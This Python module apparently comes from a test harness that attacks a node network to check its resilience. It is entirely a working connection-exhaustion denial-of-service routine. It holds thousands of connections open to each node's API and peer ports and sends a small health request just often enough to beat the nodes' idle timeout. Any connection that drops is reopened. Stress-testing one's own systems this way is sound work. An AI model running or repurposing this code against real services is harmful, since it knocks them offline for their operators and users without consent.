"""Connections that a small request now and then keeps open, on both ports; lost ones come again."""

import asyncio
import random
import socket
from contextlib import suppress

from network import NetworkSeen

from attacks.flood import ATTACKER_HOST, Attack, say_ready

_TO_API = 4_500
"""To each node: more than one takes."""
_TO_PEERS = 200
_PAUSE_S = 12.0
"""Between two requests; a node lets a client be silent for twenty seconds."""
_REQUEST = b"GET /health/live HTTP/1.1\r\nHost: node.kp\r\n\r\n"
_AT_ONCE = 50
"""Connections that are being opened."""


async def _attack(network: NetworkSeen) -> None:
    opening = asyncio.Semaphore(_AT_ONCE)
    ports = [(node.api.partition("//")[2], _TO_API) for node in network.nodes]
    ports += [(node.peers, _TO_PEERS) for node in network.nodes]
    opened = asyncio.Semaphore(0)
    async with asyncio.TaskGroup() as tasks:
        for address, count in ports:
            for _ in range(count):
                tasks.create_task(_hold(address, opening, opened))
        for _, count in ports:
            for _ in range(count):
                await opened.acquire()
        say_ready()


async def _hold(address: str, opening: asyncio.Semaphore, opened: asyncio.Semaphore) -> None:
    """Keep one connection, and open it again when it was ended."""
    loop, (host, _, port) = asyncio.get_running_loop(), address.rpartition(":")
    while True:
        with suppress(OSError), socket.socket() as one:
            one.setblocking(False)  # noqa: FBT003 (the name says it)
            async with opening:
                one.bind((ATTACKER_HOST, 0))
                await loop.sock_connect(one, (host, int(port)))
                opened.release()
            while True:
                await loop.sock_sendall(one, _REQUEST)
                await asyncio.sleep(_PAUSE_S * random.uniform(0.9, 1.1))
        await asyncio.sleep(1)


ATTACK = Attack(
    number=2,
    summary=f"{_TO_API} connections to each API, each with a request in {_PAUSE_S:g} s, and"
    f" {_TO_PEERS} to each port for peers",
    run=_attack,
)
